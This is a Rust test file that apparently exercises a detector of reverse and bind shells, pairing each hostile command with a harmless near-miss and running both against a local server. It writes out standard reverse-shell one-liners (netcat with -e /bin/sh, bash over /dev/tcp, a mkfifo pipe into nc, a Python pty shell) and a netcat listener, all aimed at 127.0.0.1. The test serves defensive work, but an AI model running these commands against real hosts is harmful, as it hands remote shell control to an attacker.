//! Reverse shells and bind shells.

use super::stage::{Act, Stage, act};

pub(crate) const ACTS: &[Act] = &[
    act(
        "Shell On A Network Connection",
        "timeout 1 nc 127.0.0.1 4444 -e /bin/sh; true",
        "echo x | timeout 1 nc 127.0.0.1 4444; true",
    ),
    act(
        "Interpreter On A Network Connection",
        "/act/python3 stdio 127.0.0.1 4444",
        "/act/python3 connect 127.0.0.1 4444",
    ),
    act(
        "Shell Told To Connect",
        "true # bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
        "true # exec 3<>/dev/tcp/127.0.0.1/4444; echo x >&3",
    ),
    act(
        "Netcat Runs A Program",
        "timeout 1 nc 127.0.0.1 4444 -e /bin/true; true",
        "timeout 1 nc 127.0.0.1 4444 < /dev/null; true",
    ),
    act(
        "Script Opens A Shell Over The Network",
        "/act/python3 -c 'import socket, pty; pty.spawn(\"/bin/sh\")'",
        "/act/python3 -c 'import socket'",
    ),
    act(
        "Shell Joined To The Network By A Pipe",
        "mkfifo /tmp/f && timeout 2 sh -c 'cat /tmp/f | sh -i 2>&1 | timeout 1 nc 127.0.0.1 4444 > /tmp/f'; true",
        "mkfifo /tmp/g",
    ),
    act(
        "Network Tool Waits For Connections",
        "timeout 1 nc -l -p 4445; true",
        "timeout 1 /act/nginx serve 127.0.0.1 4446; true",
    ),
];

#[test]
fn shells() {
    let stage = Stage::new("shells", &[]);
    stage.play_on("/act/server serve 127.0.0.1 4444");
    stage.perform(ACTS);
}
